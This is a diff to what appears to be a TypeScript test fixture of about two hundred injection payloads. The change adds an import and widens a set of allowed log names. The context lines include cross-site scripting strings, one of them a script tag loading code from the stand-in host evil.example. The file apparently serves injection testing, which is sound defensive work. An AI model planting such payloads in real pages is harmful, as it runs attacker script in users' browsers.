@@ -2,6 +2,7 @@
  * Two hundred texts that try to run, load, navigate, break out of where they are shown, or look like something else.
  * What succeeds calls `pwned()` or asks for something at `evil.example`.
  */
+import { ReviewSection } from '../../shared/goal/vocabulary.ts';
 const bare = [
   '<script>pwned()</script>',
   '<script src="https://evil.example/x.js"></script>',
@@ -71,7 +72,13 @@ const foreign = new Set(
   ),
 );
 /** Names that the log chooses from. */
-const own = new Set(['heuristic', 'detected', 'omk.json', 'code', 'performance']);
+const own = new Set<string>([
+  'heuristic',
+  'detected',
+  'agent',
+  'omk.json',
+  ...ReviewSection.shape.name.options,
+]);
 
 /** The same text becomes the same payload everywhere, so that gates and files keep belonging together. */
 export function createPoisoner(): <T>(value: T) => T {
